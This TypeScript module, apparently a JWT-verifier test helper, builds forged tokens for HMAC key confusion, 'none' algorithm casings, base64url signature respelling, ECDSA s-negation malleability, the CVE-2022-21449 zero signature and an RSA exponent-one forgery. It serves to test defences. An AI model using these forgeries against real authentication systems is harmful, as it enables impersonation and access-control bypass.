/**
 * The attacker's toolbox: tokens signed over exact header and payload text (so duplicate members, `__proto__`
 * and numbers JSON.stringify cannot write survive), HMAC with public key material, and respellings of a
 * signature that still verify.
 */
import { constants, createHash, createHmac, KeyObject, sign as cryptoSign, type SignKeyObjectInput } from 'node:crypto';

/** A private key and the algorithm it signs with: a fake provider's key, or one of the attacker's. */
export interface SigningKey {
  readonly alg: string;
  readonly privateKey: KeyObject | object;
}

/** base64url of text (UTF-8) or bytes, without padding. */
export function b64u(value: string | Uint8Array): string {
  return Buffer.from(value).toString('base64url');
}

const HASHES: Readonly<Record<string, string>> = { '256': 'sha256', '384': 'sha384', '512': 'sha512' };

function keyObject(key: SigningKey['privateKey']): KeyObject {
  return key instanceof KeyObject ? key : KeyObject.from(key as Parameters<typeof KeyObject.from>[0]);
}

/** The signature of `signingInput` under `key.alg` (RS*, PS*, ES* in IEEE P1363 form, EdDSA). */
export function signatureOf(key: SigningKey, signingInput: string): Buffer {
  const object = keyObject(key.privateKey);
  const hash = key.alg === 'EdDSA' ? null : HASHES[key.alg.slice(2)]!;
  const input: SignKeyObjectInput = { key: object };
  if (key.alg.startsWith('ES')) input.dsaEncoding = 'ieee-p1363';
  if (key.alg.startsWith('PS'))
    Object.assign(input, { padding: constants.RSA_PKCS1_PSS_PADDING, saltLength: constants.RSA_PSS_SALTLEN_DIGEST });
  return cryptoSign(hash, Buffer.from(signingInput), input);
}

/** A compact JWS over exactly this header and payload text, signed by `key`. */
export function signText(key: SigningKey, headerText: string, payloadText: string): string {
  const input = `${b64u(headerText)}.${b64u(payloadText)}`;
  return `${input}.${signatureOf(key, input).toString('base64url')}`;
}

/** A compact JWS over these header and payload objects (serialized with JSON.stringify), signed by `key`. */
export function signJson(key: SigningKey, header: Record<string, unknown>, payload: unknown): string {
  return signText(key, JSON.stringify(header), JSON.stringify(payload));
}

/** An HMAC-signed JWS (HS256/384/512) with `secret` as the key: the key-confusion forgery. */
export function signHmac(
  alg: 'HS256' | 'HS384' | 'HS512',
  header: Record<string, unknown>,
  payload: unknown,
  secret: string | Uint8Array,
): string {
  const input = `${b64u(JSON.stringify({ ...header, alg }))}.${b64u(JSON.stringify(payload))}`;
  return `${input}.${createHmac(HASHES[alg.slice(2)]!, secret).update(input).digest('base64url')}`;
}

/** The three parts of a compact token. */
export function partsOf(token: string): [header: string, payload: string, signature: string] {
  const [h = '', p = '', s = ''] = token.split('.');
  return [h, p, s];
}

/** Every upper/lower-case spelling of `word` (`none` → `none`, `nonE`, … `NONE`). */
export function casings(word: string): string[] {
  let out = [''];
  for (const ch of word)
    out = out.flatMap((prefix) => [...new Set([prefix + ch.toLowerCase(), prefix + ch.toUpperCase()])]);
  return out;
}

const ALPHABET = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';

/**
 * The same signature spelled another way: base64url's last character carries spare bits that lenient
 * decoders (Node's included) ignore, so flipping the lowest one yields other text for the same bytes.
 * Throws when the signature has no spare bits (its length is a multiple of 4).
 */
export function respellSignature(token: string): string {
  const last = token.at(-1)!;
  const signatureLength = token.length - token.lastIndexOf('.') - 1;
  if (signatureLength % 4 === 0) throw new Error('this signature has no spare bits to respell');
  return token.slice(0, -1) + ALPHABET[ALPHABET.indexOf(last) ^ 1];
}

/** Order of the P-256 group (FIPS 186-4 D.1.2.3). */
export const P256_ORDER = BigInt('0xffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551');

function toBytes32(value: bigint): Buffer {
  return Buffer.from(value.toString(16).padStart(64, '0'), 'hex');
}

/**
 * ECDSA's own malleability: if (r, s) is a valid ES256 signature, so is (r, n − s). The attacker needs no key
 * to write it, only a token someone else was issued.
 */
export function negateEcdsaS(token: string): string {
  const dot = token.lastIndexOf('.');
  const signature = Buffer.from(token.slice(dot + 1), 'base64url');
  const r = signature.subarray(0, 32);
  const s = BigInt(`0x${signature.subarray(32).toString('hex')}`);
  return `${token.slice(0, dot)}.${Buffer.concat([r, toBytes32(P256_ORDER - s)]).toString('base64url')}`;
}

/** An ES256 signature (IEEE P1363) made of two scalars: `r = s = 0` is CVE-2022-21449's "psychic signature". */
export function ecdsaSignature(r: bigint, s: bigint): string {
  return Buffer.concat([toBytes32(r), toBytes32(s)]).toString('base64url');
}

/** The DER prefix of a SHA-256 DigestInfo in an RSASSA-PKCS1-v1_5 signature (RFC 8017 §9.2, note 1). */
const SHA256_DIGEST_INFO = Buffer.from('3031300d060960864801650304020105000420', 'hex');

/**
 * An RS256 token forged for a published RSA key with public exponent 1: s^1 = s, so the encoded message
 * (0x00 0x01 0xff… 0x00 DigestInfo) is itself a valid signature. No private key is needed.
 */
export function signUnderExponentOne(header: Record<string, unknown>, payload: unknown, modulusBytes: number): string {
  const input = `${b64u(JSON.stringify({ ...header, alg: 'RS256' }))}.${b64u(JSON.stringify(payload))}`;
  const digestInfo = Buffer.concat([SHA256_DIGEST_INFO, createHash('sha256').update(input).digest()]);
  const padding = Buffer.alloc(modulusBytes - 3 - digestInfo.length, 0xff);
  return `${input}.${b64u(Buffer.concat([Buffer.from([0, 1]), padding, Buffer.from([0]), digestInfo]))}`;
}
